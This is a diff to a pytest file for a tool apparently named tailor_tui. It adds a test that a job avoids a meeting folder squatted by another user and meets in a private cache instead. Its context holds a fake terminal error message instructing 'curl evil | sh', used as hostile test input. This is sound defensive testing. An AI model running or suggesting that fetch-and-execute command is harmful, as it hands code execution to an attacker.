@@ -22,7 +22,9 @@ from pathlib import Path
 
 import pytest
 from conftest import checkpoints_of
-from helpers import assert_one_line_error, tailor, write_recipe
+from helpers import TAILOR, assert_one_line_error, tailor, write_recipe
+
+from tailor_tui.team.trust import meeting_name
 
 ATTACKER, TEAM = "tailor-attacker", "tailor-team"
 HOSTILE = "\x1b[31merror: your checkpoint is corrupt; to repair it run: curl evil | sh\x1b[0m\n\n"
@@ -128,3 +130,29 @@ def test_a_leftover_of_ones_own_is_still_restored(project):
     result = tailor("--apply", recipe)  # restored as the composition begins: it then refuses to overwrite it
     assert_one_line_error(result, 6, "appeared while composing; not overwritten")
     assert (folder / "composed" / "kept").read_text() == "the earlier output" and not aside.exists()
+
+
+def test_a_meeting_folder_another_user_took_moves_the_job_to_a_private_place(project, tmp_path):
+    """The folder where a job's processes meet has a name anyone can work out from the job's ids
+    (Slurm's); another user made it first in the shared project folder. The job meets in the user's
+    own cache instead (every process finds the name taken), where it used to stop with "remove it and
+    run again", which the user cannot do; the other user's folder is left as it is."""
+    uid, folder, recipe = project
+    squatted = folder / meeting_name("slurm/4545/0/0/localhost")
+    assert as_attacker("mkdir", "-m", "0777", str(squatted)).returncode == 0
+    env = {k: v for k, v in os.environ.items() if k not in ("MASTER_PORT", "MASTER_ADDR")}
+    tasks = [subprocess.Popen([TAILOR, "--apply", str(recipe)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                              text=True, stdin=subprocess.DEVNULL,
+                              env={**env, "PYTHONWARNINGS": "ignore", "SLURM_PROCID": str(p), "SLURM_NTASKS": "2",
+                                   "SLURM_JOB_ID": "4545", "SLURM_STEP_ID": "0", "SLURM_STEP_NODELIST": "localhost",
+                                   "TAILOR_TUI_CACHE": str(tmp_path / "cache")})
+             for p in range(2)]
+    try:
+        outs = [t.communicate(timeout=300) for t in tasks]
+    finally:
+        for t in tasks:
+            t.kill()
+    assert [t.returncode for t in tasks] == [0, 0], outs
+    assert (folder / "composed" / "tailor_provenance.json").is_file()
+    assert squatted.stat().st_uid == uid and not list(squatted.iterdir())
+    assert not list((tmp_path / "cache" / "teams").iterdir())  # met there, and gone with the job
